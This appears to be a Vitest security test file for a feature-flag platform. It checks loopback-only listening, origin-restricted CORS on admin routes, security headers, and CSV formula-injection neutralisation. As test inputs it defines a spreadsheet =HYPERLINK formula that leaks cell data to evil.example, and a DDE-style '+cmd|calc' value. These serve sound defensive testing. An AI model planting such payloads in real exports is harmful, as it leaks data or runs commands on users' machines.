/**
 * Safe defaults, by their effect: `npm start` and DynamoDB Local listen on 127.0.0.1 only (another
 * address of this machine is refused), admin routes answer browsers from the console's origins
 * only while client, frontend and OFREP routes answer any origin (locally and through the Lambda
 * handler as API Gateway calls it), every answer carries nosniff and a CSP, and CSV exports open
 * formula-like text as text.
 */
import { spawnSync } from 'node:child_process';
import { connect } from 'node:net';
import { networkInterfaces } from 'node:os';
import type { APIGatewayProxyEventV2, Context } from 'aws-lambda';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { resultsCsv } from '../../console/src/results-view';
import type { ExperimentResults } from '../../console/src/types';
import { create as createOpenapiHandler } from '../../functions/handlers/openapi-handler';
import {
  API_CONTENT_SECURITY_POLICY,
  corsPolicyOfAccess,
  corsPolicyOfPath,
  securityHeaders,
} from '../../functions/http/response-headers';
import { ROUTES } from '../../functions/routes/routes';
import { loadConfig, loadLocalConfig } from '../../functions/runtime/config';
import { startServer } from '../../local/server';
import { auditCsv } from '../../shared/governance/audit-chain';
import type { AuditEntry } from '../../shared/model/audit';
import { csvCell, neutralizeFormula } from '../../shared/model/csv-cell';
import { npmStart, type RunningPlatform } from '../support/npm-start';
import { startTestPlatform, type TestPlatform } from '../support/platform';

const CONSOLE = 'https://console.bank.example';
const FOREIGN = 'https://evil.example';
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")';

/** A non-loopback IPv4 address of this machine, if it has one: what another host would connect to. */
const OTHER_ADDRESS = Object.values(networkInterfaces())
  .flat()
  .find((a) => a !== undefined && a.family === 'IPv4' && !a.internal)?.address;

/** What a TCP connection to host:port meets: 'connected', or the error code (ECONNREFUSED). */
function tcp(host: string, port: number): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect({ host, port });
    socket.setTimeout(3000);
    socket.once('connect', () => {
      socket.destroy();
      resolve('connected');
    });
    socket.once('timeout', () => {
      socket.destroy();
      resolve('timeout');
    });
    socket.once('error', (e: NodeJS.ErrnoException) => resolve(e.code ?? e.message));
  });
}

/** The local addresses listening on a TCP port, as the kernel lists them (`ss -ltn`). */
function listeningOn(port: number): string[] {
  const out = spawnSync('ss', ['-ltnH', `sport = :${port}`], { encoding: 'utf8' });
  expect(out.status, out.stderr).toBe(0);
  return out.stdout
    .trim()
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => l.trim().split(/\s+/)[3].replace(/:\d+$/, ''));
}

/** ss writes an IPv4-mapped socket as [::ffff:127.0.0.1]. */
const LOOPBACK = /^(127\.0\.0\.1|\[::ffff:127\.0\.0\.1\])$/;

let p: TestPlatform;

beforeAll(async () => {
  p = await startTestPlatform({ OMNILAB_CONSOLE_ORIGINS: CONSOLE });
});
afterAll(() => p?.close());

describe('listening addresses', () => {
  it('the local server listens on 127.0.0.1 unless told otherwise, and HOST widens it', async () => {
    expect(loadLocalConfig({}).host).toBe('127.0.0.1');
    expect(loadLocalConfig({ HOST: '0.0.0.0' }).host).toBe('0.0.0.0');
    const narrow = await startServer({ runtime: p.runtime, port: 0 });
    try {
      expect(narrow.address).toBe('127.0.0.1');
      expect(listeningOn(narrow.port).every((a) => LOOPBACK.test(a))).toBe(true);
      expect(await tcp('127.0.0.1', narrow.port)).toBe('connected');
      if (OTHER_ADDRESS) expect(await tcp(OTHER_ADDRESS, narrow.port)).toBe('ECONNREFUSED');
    } finally {
      await narrow.close();
    }
    const wide = await startServer({ runtime: p.runtime, port: 0, host: '0.0.0.0' });
    try {
      expect(wide.address).toBe('0.0.0.0');
      if (OTHER_ADDRESS) expect(await tcp(OTHER_ADDRESS, wide.port)).toBe('connected');
    } finally {
      await wide.close();
    }
  });

  it("the tests' DynamoDB Local listens on 127.0.0.1 only", async () => {
    const port = Number(new URL(inject('dynamodbEndpoint')).port);
    const addresses = listeningOn(port);
    expect(addresses.length).toBeGreaterThan(0);
    expect(
      addresses.every((a) => LOOPBACK.test(a)),
      addresses.join(' '),
    ).toBe(true);
    if (OTHER_ADDRESS) expect(await tcp(OTHER_ADDRESS, port)).toBe('ECONNREFUSED');
  });

  describe('npm start', () => {
    let run: RunningPlatform;
    beforeAll(async () => {
      run = await npmStart(['--in-memory']);
    }, 120_000);
    afterAll(async () => {
      await run?.stop();
    });

    it('serves on 127.0.0.1 only, with DynamoDB Local on 127.0.0.1 only, and says so', async () => {
      expect(run.output()).toMatch(/listening on {3}127\.0\.0\.1:\d+ only/);
      for (const port of [run.port, run.dynamodbPort]) {
        const addresses = listeningOn(port);
        expect(addresses.length, `port ${port}`).toBeGreaterThan(0);
        expect(
          addresses.every((a) => LOOPBACK.test(a)),
          `port ${port}: ${addresses.join(' ')}`,
        ).toBe(true);
        expect(await tcp('127.0.0.1', port)).toBe('connected');
        if (OTHER_ADDRESS) expect(await tcp(OTHER_ADDRESS, port), `port ${port}`).toBe('ECONNREFUSED');
      }
      // Its console's own origin is the one whose pages may call admin routes.
      const preflight = await fetch(`${run.url}/api/admin/flags`, {
        method: 'OPTIONS',
        headers: { origin: run.url, 'access-control-request-method': 'POST' },
      });
      expect(preflight.headers.get('access-control-allow-origin')).toBe(run.url);
    });
  });
});

function preflight(path: string, origin: string) {
  return fetch(`${p.url}${path}`, {
    method: 'OPTIONS',
    headers: {
      origin,
      'access-control-request-method': 'POST',
      'access-control-request-headers': 'authorization, content-type',
    },
  });
}

describe('CORS', () => {
  it('answers a preflight to an admin route from the console origin only', async () => {
    const foreign = await preflight('/api/admin/flags', FOREIGN);
    expect(foreign.headers.get('access-control-allow-origin')).toBeNull();
    expect(foreign.headers.get('access-control-allow-methods')).toBeNull();
    expect(foreign.headers.get('vary')).toMatch(/origin/i);

    const console = await preflight('/api/admin/flags', CONSOLE);
    expect(console.status).toBe(204);
    expect(console.headers.get('access-control-allow-origin')).toBe(CONSOLE);
    expect(console.headers.get('access-control-allow-methods')).toContain('POST');
    expect(console.headers.get('access-control-allow-headers')).toBe('authorization, content-type');
  });

  it('lets only the console read admin answers, errors included', async () => {
    for (const [origin, expected] of [
      [CONSOLE, CONSOLE],
      [FOREIGN, null],
    ] as const) {
      const listed = await p.call('GET', '/api/admin/flags', { token: p.tokens.admin, headers: { origin } });
      expect(listed.status).toBe(200);
      expect(listed.headers.get('access-control-allow-origin')).toBe(expected);
      const refused = await p.call('GET', '/api/admin/flags', { headers: { origin } });
      expect(refused.status).toBe(401);
      expect(refused.headers.get('access-control-allow-origin')).toBe(expected);
    }
  });

  it('answers client, frontend, OFREP and OpenAPI routes from any origin', async () => {
    for (const path of ['/api/client/features', '/api/frontend', '/ofrep/v1/evaluate/flags', '/api/events']) {
      const res = await preflight(path, FOREIGN);
      expect(res.headers.get('access-control-allow-origin'), path).toBe('*');
      expect(res.headers.get('access-control-allow-methods'), path).toContain('POST');
    }
    const features = await p.call('GET', '/api/client/features', {
      token: p.tokens.client,
      headers: { origin: FOREIGN },
    });
    expect(features.status).toBe(200);
    expect(features.headers.get('access-control-allow-origin')).toBe('*');
    expect(features.headers.get('access-control-expose-headers')).toBe('etag');
    const frontend = await p.call('GET', '/api/frontend', {
      token: p.tokens.frontend,
      headers: { origin: FOREIGN },
    });
    expect(frontend.headers.get('access-control-allow-origin')).toBe('*');
    const ofrep = await p.call('POST', '/ofrep/v1/evaluate/flags', {
      token: p.tokens.client,
      body: { context: { targetingKey: 'customer-1' } },
      headers: { origin: FOREIGN },
    });
    expect(ofrep.headers.get('access-control-allow-origin')).toBe('*');
    const openapi = await fetch(`${p.url}/api/openapi.json`, { headers: { origin: FOREIGN } });
    expect(openapi.headers.get('access-control-allow-origin')).toBe('*');
  });

  it('answers the same through the Lambda handler, as API Gateway routes OPTIONS /{proxy+} to it', async () => {
    // The entry's middy handler, built over this platform's runtime (its console origins).
    const openapiHandler = createOpenapiHandler(p.runtime);
    const context = { getRemainingTimeInMillis: () => 10_000 } as Context;
    const event = (path: string, origin: string) =>
      ({
        version: '2.0',
        routeKey: 'OPTIONS /{proxy+}',
        rawPath: path,
        rawQueryString: '',
        headers: { origin, 'access-control-request-method': 'PUT' },
        requestContext: { http: { method: 'OPTIONS', path } },
        isBase64Encoded: false,
      }) as unknown as APIGatewayProxyEventV2;
    const admin = await openapiHandler(event('/api/admin/flags/x', FOREIGN), context);
    expect(admin.statusCode).toBe(204);
    expect(admin.headers?.['access-control-allow-origin']).toBeUndefined();
    const fromConsole = await openapiHandler(event('/api/admin/flags/x', CONSOLE), context);
    expect(fromConsole.headers?.['access-control-allow-origin']).toBe(CONSOLE);
    const client = await openapiHandler(event('/api/client/features', FOREIGN), context);
    expect(client.headers?.['access-control-allow-origin']).toBe('*');
  });

  it('gives no origin but the configured ones an admin answer (property)', async () => {
    const config = loadConfig({ OMNILAB_CONSOLE_ORIGINS: CONSOLE });
    expect(config.consoleOrigins).toEqual([CONSOLE]);
    expect(loadConfig({}).consoleOrigins).toEqual(['http://localhost:4242', 'http://127.0.0.1:4242']);
    expect(() => loadConfig({ OMNILAB_CONSOLE_ORIGINS: 'https://console.bank.example/path' })).toThrow(
      /OMNILAB_CONSOLE_ORIGINS/,
    );
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.webUrl().map((u) => new URL(u).origin),
          fc.string(),
        ),
        async (raw) => {
          const origin = encodeURI(raw).trim();
          fc.pre(origin !== CONSOLE);
          const res = await p.call('GET', '/api/admin/flags', { token: p.tokens.admin, headers: { origin } });
          expect(res.headers.get('access-control-allow-origin')).toBeNull();
        },
      ),
      { numRuns: 40 },
    );
  });

  it("classifies every route's path as its access does", () => {
    for (const r of ROUTES) {
      const path = r.path.replace(/\{\w+\}/g, 'x');
      expect(corsPolicyOfPath(path, ROUTES), `${r.method} ${r.path}`).toBe(corsPolicyOfAccess(r.access));
    }
  });
});

describe('security headers', () => {
  it('every API answer says nosniff and a CSP that runs nothing; no HSTS over http', async () => {
    const answers = [
      await p.call('GET', '/api/admin/flags', { token: p.tokens.admin }),
      await p.call('GET', '/api/admin/flags'),
      await p.call('GET', '/api/client/features', { token: p.tokens.client }),
      await fetch(`${p.url}/api/nothing-here`),
      await preflight('/api/admin/flags', CONSOLE),
    ];
    for (const res of answers) {
      expect(res.headers.get('x-content-type-options'), res.url).toBe('nosniff');
      expect(res.headers.get('content-security-policy'), res.url).toBe(API_CONTENT_SECURITY_POLICY);
      expect(res.headers.get('strict-transport-security'), res.url).toBeNull();
    }
    expect(API_CONTENT_SECURITY_POLICY).toBe("default-src 'none'; frame-ancestors 'none'");
    expect(securityHeaders(31_536_000)['strict-transport-security']).toBe(
      'max-age=31536000; includeSubDomains',
    );
  });

  it("the console's page: CSP with frame-ancestors 'none', nosniff, DENY framing, a referrer policy", async () => {
    const res = await fetch(`${p.url}/`);
    expect(res.status).toBe(200);
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toContain('unsafe-inline');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('x-frame-options')).toBe('DENY');
    expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
  });
});

/** RFC 4180 parsing, as a spreadsheet reads the file: rows of cell texts. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/;
/** A cell a spreadsheet would run: it starts like a formula and is not a plain number. */
const runnable = (c: string) => FORMULA_START.test(c) && !PLAIN_NUMBER.test(c);

describe('CSV exports', () => {
  it('an audit entry whose values are =HYPERLINK(…) opens as text', () => {
    const entry: AuditEntry = {
      id: 'e1',
      at: '2026-12-01T00:00:00.000Z',
      actor: HYPERLINK,
      action: '@SUM(1+1)',
      target: { type: 'flag', id: '+cmd|calc' },
      environments: ['-2+3'],
      before: null,
      after: HYPERLINK,
      sequence: 1,
      previousHash: '0',
      hash: '1',
    };
    const [header, row] = parseCsv(auditCsv([entry]));
    const cells = Object.fromEntries(header.map((h, i) => [h, row[i]]));
    expect(cells.actor).toBe(`'${HYPERLINK}`);
    expect(cells.action).toBe("'@SUM(1+1)");
    expect(cells.targetId).toBe("'+cmd|calc");
    expect(cells.environments).toBe("'-2+3");
    expect(cells.after).toBe(`'${HYPERLINK}`);
    // Objects are written as JSON, which opens with its brace: text, left as it is.
    const [, objectRow] = parseCsv(auditCsv([{ ...entry, after: { note: HYPERLINK } }]));
    expect(objectRow[header.indexOf('after')]).toBe(JSON.stringify({ note: HYPERLINK }));
    expect(cells.sequence).toBe('1');
    for (const c of row) expect(runnable(c), c).toBe(false);
  });

  it('the exported audit CSV has no formula cell after a write carrying one', async () => {
    const created = await p.call('POST', '/api/admin/flags', {
      token: p.tokens.admin,
      body: { name: 'csv-injection', squad: 'payments', description: HYPERLINK },
    });
    expect(created.status).toBe(201);
    const res = await p.call('GET', '/api/admin/audit/export?format=csv', { token: p.tokens.auditor });
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(text).toContain('HYPERLINK');
    for (const row of parseCsv(text)) for (const c of row) expect(runnable(c), c).toBe(false);
  });

  it('any text round-trips through a cell as itself, or prefixed when a spreadsheet would run it (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (s) => {
        const back = parseCsv(`${csvCell(s)}\r\n`)[0]?.[0] ?? '';
        expect(back).toBe(neutralizeFormula(s));
        // What still starts like a formula is a plain number, which a spreadsheet shows as that number.
        if (FORMULA_START.test(back)) expect(back).toMatch(PLAIN_NUMBER);
        if (!FORMULA_START.test(s)) expect(back).toBe(s);
        else expect(back === s || back === `'${s}`).toBe(true);
      }),
      { numRuns: 500 },
    );
    expect(csvCell(-0.05)).toBe('-0.05');
    expect(csvCell('-0.05')).toBe('-0.05');
    expect(csvCell('-1+1')).toBe("'-1+1");
  });

  it("the console's results CSV opens metric names and variants as text, numbers as numbers", () => {
    const comparison = {
      variant: '@variant',
      error: null,
      relative: { estimate: -0.05, ciLower: -0.1, ciUpper: 0.01, pValue: 0.2 },
      absolute: { estimate: -0.01 },
      adjustedPValue: { holm: 0.3 },
      chanceToWin: 0.1,
      significant: false,
    };
    const scope = {
      metrics: [
        {
          key: 'm',
          name: HYPERLINK,
          role: 'primary',
          variants: [
            { variant: 'control', units: 10, mean: 0.1 },
            { variant: '@variant', units: 10, mean: 0.09 },
          ],
          comparisons: [comparison],
        },
      ],
      srm: { detected: false },
      verdict: { decision: 'keep-running' },
    };
    const results = { ...scope, channel: null, breakdown: [] } as unknown as ExperimentResults;
    const rows = parseCsv(resultsCsv(results));
    expect(rows[1][2]).toBe(`'${HYPERLINK}`);
    expect(rows[2][4]).toBe("'@variant");
    expect(rows[2][7]).toBe('-0.05');
    for (const row of rows) for (const c of row) expect(runnable(c), c).toBe(false);
  });
});
